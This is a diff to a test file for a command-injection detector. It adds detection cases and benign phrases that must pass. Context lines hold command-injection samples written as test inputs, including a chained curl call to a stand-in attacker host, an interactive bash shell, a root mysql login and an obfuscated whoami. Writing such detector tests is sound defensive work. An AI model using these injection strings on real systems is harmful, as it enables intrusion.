@@ -20,6 +20,8 @@ describe('cmdi: cmd.exe FOR and IF forms', () => {
     ['cmdi.obfuscated-word', ';wh$()oami'],
     ['cmdi.chained-command', ';time curl https://evil.example/x'],
     ['cmdi.leading-command', 'timeout 5 bash -i'],
+    ['cmdi.leading-command', 'nohup who'],
+    ['cmdi.leading-command', 'strace who'],
     ['cmdi.leading-command', 'python3.11 -c "import os"'],
     ['cmdi.chained-command', '| mysql -u root'],
     ['cmdi.runtime-call', 'Process.spawn("id")'],
@@ -37,7 +39,7 @@ describe('cmdi: cmd.exe FOR and IF forms', () => {
     expect(rules(v)).toContain(id);
   });
 
-  it.each(['/* stdin: */ 0,', '{cat,dog}', '{red,green,blue}', 'values {1,2,3}', 'render() { return a | b }', 'foo(){ bar; }; foo.baz', '100%x(2) scaling', 'My process spawn rate (per min)', "It's time to go; time flies", 'Python 3.10 is great', 'pip install requests', 'Shutdown the server tonight', 'Q&A; cat / dog pics', 'I use nslookup example.com daily', 'ping 192.0.2.7', 'Meet at 5; ping me at 192.0.2.7 if needed', 'Read the docs; see https://example.com', 'I tried wget; curl is nicer', 'for 5% in (most) cases', 'Verify if the total == 5', 'if you want, == means equal'])('passes: %s', (v) => {
+  it.each(['/* stdin: */ 0,', '{cat,dog}', '{red,green,blue}', 'values {1,2,3}', 'render() { return a | b }', 'foo(){ bar; }; foo.baz', 'time who knows', 'sudo make me a sandwich', 'nohup is a command', '100%x(2) scaling', 'My process spawn rate (per min)', "It's time to go; time flies", 'Python 3.10 is great', 'pip install requests', 'Shutdown the server tonight', 'Q&A; cat / dog pics', 'I use nslookup example.com daily', 'ping 192.0.2.7', 'Meet at 5; ping me at 192.0.2.7 if needed', 'Read the docs; see https://example.com', 'I tried wget; curl is nicer', 'for 5% in (most) cases', 'Verify if the total == 5', 'if you want, == means equal'])('passes: %s', (v) => {
     const r = inspector.inspect(query(v));
     expect(r.blocked, JSON.stringify(r.findings)).toBe(false);
   });
